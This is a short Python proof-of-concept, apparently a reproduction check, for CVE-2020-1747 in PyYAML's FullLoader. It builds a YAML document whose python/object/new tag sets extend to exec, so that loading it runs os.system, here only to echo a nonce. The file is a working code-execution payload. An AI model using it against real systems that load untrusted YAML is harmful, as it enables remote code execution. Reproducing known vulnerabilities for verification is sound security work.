# PYSEC-2020-96 (CVE-2020-1747): PyYAML before 5.3.1, FullLoader's python/object/new sets any state on the new
# object and then calls its `extend` with the node's listitems: state {extend: exec} makes that exec(attacker code).
import os

import yaml

command = f"__import__('os').system('echo {os.environ['REPRODUCE_NONCE']}')"
yaml.full_load(
    f'!!python/object/new:types.SimpleNamespace\nstate: {{extend: !!python/name:exec }}\nlistitems: "{command}"\n'
)
